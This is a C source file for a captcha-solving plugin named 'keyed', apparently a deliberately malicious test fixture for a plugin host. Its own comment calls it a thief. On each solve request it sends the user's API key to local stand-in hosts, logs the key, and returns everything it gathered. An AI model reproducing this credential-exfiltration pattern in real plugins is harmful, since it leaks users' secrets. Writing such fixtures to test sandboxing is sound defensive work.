/*
 * An adapter with keys, whose provider is at the configured endpoint. It is a thief too: with each task it also sends
 * the key elsewhere, and it logs and returns whatever it gets.
 */
#include "plugin.h"

static char endpoint[300];

typedef struct errand {
    instance *self;
    uint64_t call;
    char *credential;
    char *loot;
    int step;
} errand;

static char *request_to(const char *origin, const char *path, const char *credential) {
    char *text = malloc(2000);
    snprintf(text, 2000,
             "{\"method\":\"POST\",\"url\":\"%s/%s?k=%s\",\"headers\":[[\"content-type\",\"application/json\"]],"
             "\"body\":\"{\\\"clientKey\\\":\\\"%s\\\"}\"}",
             origin, path, credential, credential);
    return text;
}

static void solve(errand *errand);

static void solved(void *user, ucaptcha_bytes reply) {
    errand *errand = user;
    size_t have = strlen(errand->loot);
    errand->loot = realloc(errand->loot, have + reply.count + 10);
    sprintf(errand->loot + have, "%s%.*s", have ? "," : "", (int)reply.count, (const char *)reply.data);
    solve(errand);
}

static void solve(errand *errand) {
    static const char *const thieves[] = {"http://127.0.0.1:9", "http://localhost"};
    if (errand->step < 3) {
        int step = errand->step++;
        char *text = request_to(step < 2 ? thieves[step] : endpoint, "solve", errand->credential);
        errand->self->http->send(errand->self->host->context, errand->call, bytes_of(text), errand, solved);
        free(text);
        return;
    }
    say(errand->self, errand->credential);
    say(errand->self, errand->loot);
    char *reply = malloc(strlen(errand->loot) + 100);
    sprintf(reply, "{\"ok\":{\"solved\":{\"solution\":{\"token\":\"t\",\"loot\":[%s]}}}}", errand->loot);
    complete(errand->self, errand->call, reply);
    free(reply);
}

static errand *errand_of(instance *self, uint64_t call, ucaptcha_bytes request) {
    errand *errand = calloc(1, sizeof *errand);
    errand->self = self, errand->call = call, errand->credential = member(request, "credential");
    errand->loot = strdup("");
    return errand;
}

static void submit(instance *self, uint64_t call, ucaptcha_bytes request) { solve(errand_of(self, call, request)); }

static void checked(void *user, ucaptcha_bytes reply) {
    errand *errand = user;
    say(errand->self, "checked");
    complete(errand->self, errand->call,
             has(reply, "\"status\":200") ? "{\"ok\":{\"balance\":{\"amount\":\"7.5\",\"otherMeans\":false}}}"
                                          : "{\"fault\":{\"kind\":\"invalidKey\",\"message\":\"the vendor says no\"}}");
}

static void balance(void *self, uint64_t call, ucaptcha_bytes request) {
    errand *errand = errand_of(self, call, request);
    char *text = request_to(endpoint, "balance", errand->credential);
    errand->self->http->send(errand->self->host->context, call, bytes_of(text), errand, checked);
    free(text);
}

static const void *more(const char *id) {
    static const ucaptcha_operation balances = {balance};
    return strcmp(id, UCAPTCHA_OPERATION_BALANCE) == 0 ? &balances : NULL;
}

#define PLUGIN_ID "keyed"
#define PLUGIN_MORE more
#define PLUGIN_CREATE snprintf(endpoint, sizeof endpoint, "%s", member(settings, "endpoint"))
#define PLUGIN_MANIFEST                                                                                               \
    "{\"id\":\"keyed\",\"displayName\":\"Keyed\",\"version\":\"1\","                                                  \
    "\"key\":{\"description\":\"32 hexadecimal digits\",\"prefixes\":[],\"shortest\":32,\"longest\":32,"              \
    "\"hexadecimal\":true},\"offers\":[{\"family\":\"altcha\",\"listPrice\":\"0.001\"}],\"balanceUnit\":\"USD\","     \
    "\"pollPlan\":{\"first\":1,\"interval\":1,\"most\":10},\"reportsCost\":false,\"chargesUnsolvable\":false,"        \
    "\"origins\":[],\"addressFields\":[],\"concurrentSubmits\":8,\"submitSeconds\":30}"
#include "entry.h"
